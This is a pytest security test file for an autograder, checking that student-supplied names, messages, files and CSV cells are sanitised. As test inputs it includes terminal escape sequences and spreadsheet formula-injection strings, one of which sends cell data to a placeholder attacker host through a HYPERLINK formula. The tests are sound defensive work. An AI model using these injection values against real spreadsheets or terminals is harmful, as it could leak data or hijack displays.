"""Is every string and file a student controls made harmless before the grader keeps it,
and does every output escape what it shows? (Unit tests; the whole batch is
tests/security/test_integrity.py.)"""
from __future__ import annotations

import csv
import io
import os
import re
from pathlib import Path

import pytest

from autograder import writing
from autograder.engine import assignment as assignment_mod
from autograder.engine.intake import files, untrusted
from autograder.engine import summary
from autograder.engine.batch import Batch
from autograder.engine.results import SubmissionResult
from autograder.engine.results import TestResult as Case  # not collected by pytest
from autograder.engine.driving.student import StudentError
from autograder.engine.intake.submissions import (SubmissionError, discover, read_notebook_bytes,
                                           safe_id)
from autograder.report import feedback, gradebook, plots
from autograder.report import run as report_run
from tests.conftest import write_notebook

ESCAPES = "\x1b[2J\x1b[H\x1b]0;title\x07\x1bP1$r\x1b\\\x9b31m\x1bc\u202e"
OBEYED = "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]"


# ---- untrusted.text and untrusted.name -----------------------------------------------

def test_ordinary_text_is_kept_as_written():
    message = "shape (2, 3) != (3, 2)\n\tcafé ✓ 😀 — $x$ <b>"
    assert untrusted.text(message) == message
    assert untrusted.name("ValueError") == "ValueError"


def test_a_lone_surrogate_becomes_a_replacement_character():
    cleaned = untrusted.text("bad \ud800 and \udcff")
    assert cleaned == "bad \ufffd and \ufffd"
    cleaned.encode("utf-8")  # would raise if one were left


@pytest.mark.parametrize("sequence", ["\x1b[2J", "\x1b[38;5;196m", "\x1b]0;title\x07",
                                      "\x1b]8;;http://x\x1b\\", "\x1bP1$r\x1b\\", "\x9b31m",
                                      "\x9d0;t\x9c", "\x1bc", "\x1b(B"])
def test_escape_sequences_are_removed_whole(sequence):
    assert untrusted.text(f"a{sequence}b") == "ab"
    assert untrusted.name(f"a{sequence}b") == "ab"


def test_controls_go_newlines_and_tabs_stay_only_in_text():
    raw = "l1\r\nl2\rl3\tx\x00\x07\x08\x7f\x85\u202e\u2066y"
    assert untrusted.text(raw) == "l1\nl2\nl3\txy"
    assert untrusted.name(raw) == "l1 l2 l3 xy"
    assert not re.search(OBEYED, untrusted.text(ESCAPES * 3 + "\ud800"))


def test_length_is_capped_whatever_was_sent():
    assert len(untrusted.name("E" * 4_000_000)) == untrusted.NAME_CHARS
    long = untrusted.text("x" * 10_000_000)
    assert len(long) == untrusted.MESSAGE_CHARS and long.endswith(untrusted.CUT)
    assert len(untrusted.text("y" * 300, 100)) == 100
    # escapes do not count against the cap: removing them never leaves more than the limit
    assert untrusted.text("\x1b[0m" * 10_000 + "z", 50).endswith(untrusted.CUT)


def test_values_that_are_not_strings():
    assert untrusted.text(None) == "" and untrusted.name(2001) == "2001"
    assert untrusted.name(["a\x1b[2Jb"]) == "['a\\x1b[2Jb']"  # str() of a list escapes


def test_visible_shows_what_a_terminal_would_obey():
    shown = untrusted.visible("a\x1b[2Jb\u202e\ud800\tc\nd")
    assert shown == "a\\x1b[2Jb\\u202e\\ud800\tc\nd"


def test_student_error_keeps_only_clean_bounded_names_and_message():
    huge = "\x1b[2J" + "E" * 4_000_000
    err = StudentError({"type": huge, "mro": [huge, "ValueError", "Exception"] * 10_000,
                        "message": "bad \ud800" + ESCAPES}, "causal_mask(...)")
    assert len(err.type_name) == untrusted.NAME_CHARS and "\x1b" not in err.type_name
    assert len(err.type_names) == StudentError.MAX_MRO and err.is_a(ValueError)
    assert err.message == "bad \ufffd"
    assert StudentError({"mro": "not a list"}, "f").type_names == ["Exception"]


# ---- files ---------------------------------------------------------------------------

@pytest.fixture
def folder(tmp_path):
    (tmp_path / "real.ipynb").write_text("{}")
    (tmp_path / "link.ipynb").symlink_to(tmp_path / "real.ipynb")
    os.mkfifo(tmp_path / "pipe.ipynb")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "deep.ipynb").write_text("{}")
    (tmp_path / "dirlink").symlink_to(tmp_path / "sub")
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "x.ipynb").write_text("{}")
    return tmp_path


def test_links_and_special_files_are_never_opened(folder):
    """A link (even to a regular file), a FIFO (would block), a folder: refused."""
    assert files.read_regular(folder / "real.ipynb", 100, "real") == b"{}"
    for name, why in [("link.ipynb", "symbolic link"), ("pipe.ipynb", "not a regular file"),
                      ("sub", "folder")]:
        with pytest.raises(files.UnreadableFile, match=why):
            files.read_regular(folder / name, 100, name)


def test_size_is_counted_while_reading_not_taken_from_stat():
    """/proc files say they are empty and are not: the cap still holds."""
    status = Path("/proc/self/status")
    assert status.stat().st_size == 0
    with pytest.raises(files.UnreadableFile, match="larger than"):
        files.read_regular(status, 10, "status")


def test_walk_never_enters_a_link(folder, monkeypatch):
    found = files.walk(folder)
    assert found.files == ["real.ipynb", "sub/deep.ipynb"]
    assert len(found.refused) == 3  # link.ipynb, pipe.ipynb, dirlink
    assert any("dirlink is a symbolic link" in r for r in found.refused)
    monkeypatch.setattr(files, "MAX_FILES", 3)
    with pytest.raises(files.UnreadableFile, match="more than 3 files"):
        files.walk(folder)


def test_a_folder_whose_only_notebook_is_a_link_is_refused(tmp_path):
    subs = tmp_path / "subs"
    (subs / "eve").mkdir(parents=True)
    write_notebook(tmp_path / "solution.ipynb", ["x = 1"])
    (subs / "eve" / "hw1_attention.ipynb").symlink_to(tmp_path / "solution.ipynb")
    (subs / "top.ipynb").symlink_to(tmp_path / "solution.ipynb")
    entries, _ = discover(subs)
    by_id = {e.id: e for e in entries}
    assert "links are not followed" in by_id["eve"].notes[0]
    for entry in entries:
        with pytest.raises(SubmissionError, match="symbolic link"):
            read_notebook_bytes(entry, "hw1_attention")


# ---- submission ids ------------------------------------------------------------------

def test_ids_never_take_an_output_name_or_each_others(tmp_path):
    """Clashes with an output or with another id, case ignored: the entry
    keeps its extension, then gets a number, and is told."""
    for name in ("grades.csv.ipynb", "GRADES.CSV.zip", "Report.HTML.ipynb", "alice.ipynb",
                 "Alice.ipynb"):
        (tmp_path / name).write_text("{}")
    (tmp_path / "canvas.csv").mkdir()
    reserved = report_run.reserved_names("hw1_attention")  # as `grade` passes them
    entries, _ = discover(tmp_path, reserved)
    assert {e.id for e in entries} == {"grades.csv.ipynb", "GRADES.CSV.zip", "Report.HTML.ipynb",
                                       "Alice.ipynb", "alice.ipynb_2", "canvas.csv_2"}
    assert all("this one is graded as" in e.notes[0] for e in entries)
    assert [e.id for e in discover(tmp_path, reserved)[0]] == [e.id for e in entries]  # stable
    alone = {e.id for e in discover(tmp_path)[0]}  # grading alone writes only grades.csv
    assert {"Report.HTML", "canvas.csv", "GRADES.CSV.zip"} <= alone


def test_safe_id_is_printable_and_not_a_formula():
    assert safe_id("=HYPERLINK(x)") == "_=HYPERLINK(x)"
    assert safe_id(".hidden") == "_.hidden"
    assert safe_id("a\x1b[2Jb/c\\d") == "a_[2Jb_c_d"
    assert len(safe_id("n" * 1000)) == untrusted.NAME_CHARS


def test_metadata_comes_from_the_export_only_and_is_cleaned(tmp_path):
    (tmp_path / "submission_1").mkdir()
    (tmp_path / "submission_1" / "submission_metadata.json").write_text(
        '{"users": [{"name": "Someone Else", "sid": "s9"}]}')
    (tmp_path / "submission_metadata.yml").write_text(
        'submission_1:\n  :submitters:\n  - :name: "Bob\\e[2J \\U0001F600"\n    :sid: s2\n')
    (tmp_path / "loose").mkdir()
    (tmp_path / "loose" / "submission_metadata.json").write_text('{"users": [{"sid": "s1"}]}')
    entries, warnings = discover(tmp_path)
    by_id = {e.id: e for e in entries}
    assert by_id["submission_1"].metadata["users"] == [{"name": "Bob \U0001F600", "sid": "s2"}]
    assert by_id["loose"].metadata == {}
    assert any("ignored submission_metadata.json inside 2 submissions" in w for w in warnings)


# ---- sinks -----------------------------------------------------------------------------

def test_plot_labels_are_not_parsed_as_mathematics():
    assert plots.runtimes([("eve$\\frac{$", 1.0), ("a$b", 2.0)]).startswith("data:image/png")


def test_spreadsheet_cells_are_never_formulas():
    r = SubmissionResult("s1", "hw", notes=["-1 point"],
                         metadata={"users": [{"name": "=HYPERLINK(\"http://x\")"}]})
    text = gradebook.gradebook_csv([gradebook.Row(None, r, None, "")], 1.0)
    row = list(csv.DictReader(io.StringIO(text)))[0]
    assert row["student"].startswith("'=") and row["note"] == "'-1 point"
    canvas = gradebook.canvas_csv([gradebook.Row(None, r, None, "")], "A", 1.0)
    assert list(csv.reader(io.StringIO(canvas)))[2][0].startswith("'=")


def test_feedback_quotes_the_id_and_caps_every_text():
    r = SubmissionResult("a`b``c", "hw", notes=["n" * 100_000], tests=[
        Case("q1", "t", "title", 0.0, 1.0, "o" * 100_000, "visible")])
    ctx = feedback.Context("T", ["q1"], {"q1": 1.0})
    md = feedback.markdown(r, ctx)
    assert "Submission ``` a`b``c ```" in md and len(md) < 40_000
    assert len(feedback.html(r, ctx)) < 40_000


def _batch(tmp_path, results) -> Batch:
    a = assignment_mod.load("hw1_attention")
    for r in results:
        r.tests = [Case(c.question, c.name, c.title, c.points, c.points, "passed",
                        c.visibility) for c in a.cases]
    return Batch(a, tmp_path, results=results)


def test_the_terminal_table_escapes_what_slipped_through(tmp_path):
    """Even a note that bypassed cleaning is printed escaped, never obeyed."""
    batch = _batch(tmp_path, [SubmissionResult("s\x1b[2J", "hw1_attention",
                                               notes=["raised " + ESCAPES])])
    printed = summary.table(batch)
    assert "\\x1b[2J" in printed and not re.search(OBEYED, printed)


def test_one_students_failing_report_stops_no_other(tmp_path, monkeypatch):
    batch = _batch(tmp_path, [SubmissionResult(s, "hw1_attention") for s in ("ann", "bad", "cy")])
    real = feedback.write

    def fail_for_bad(out, result, ctx, status=""):
        if result.submission == "bad":
            raise UnicodeEncodeError("utf-8", "\ud800", 0, 1, "surrogates not allowed")
        real(out, result, ctx, status)
    monkeypatch.setattr(feedback, "write", fail_for_bad)
    monkeypatch.setattr(plots, "histogram", lambda *a: 1 / 0)
    lines = report_run.write_all(batch, report_run.Prepared())
    assert any("the feedback of bad could not be written" in line for line in lines)
    assert (tmp_path / "ann" / "feedback.md").is_file() and (tmp_path / "cy" / "feedback.md").is_file()
    for name in ("gradebook.csv", "canvas.csv", "report.html"):
        assert (tmp_path / name).is_file(), name
    report = (tmp_path / "report.html").read_text()
    assert "This plot could not be drawn: score distribution" in report
    assert report.count('<img class="plot"') == 3


# ---- CSV: one function writes every file ---------------------------------------------

def test_every_csv_file_is_written_by_one_function():
    """Only autograder/writing.py makes CSV (csv_text escapes every cell): a writer of
    its own elsewhere once left identity_flags.csv unescaped."""
    from autograder import paths
    writers = [str(p.relative_to(paths.PACKAGE)) for p in sorted(paths.PACKAGE.rglob("*.py"))
               if p.name != "writing.py" and re.search(r"csv\.(writer|DictWriter)\b", p.read_text())]
    assert writers == []


def test_identity_flags_csv_never_holds_a_formula():
    """An identity the platform gives (a Gradescope sid is the student's to edit) that
    a spreadsheet would run: written as text, as in every other CSV."""
    from autograder.exam import free_response
    from autograder.exam import reports as exam_reports
    formula = '=HYPERLINK("http://evil.example/?"&A1,"s1")'
    sheet = free_response.Sheet("s1", formula, "IDENTITY FLAG: ...", {}, [])
    rows = list(csv.reader(io.StringIO(exam_reports._flags_csv([sheet]))))
    assert rows[1][1] == "'" + formula
    assert writing.spreadsheet_cell("-0.5") == "-0.5" and writing.spreadsheet_cell("-1+2") == "'-1+2"
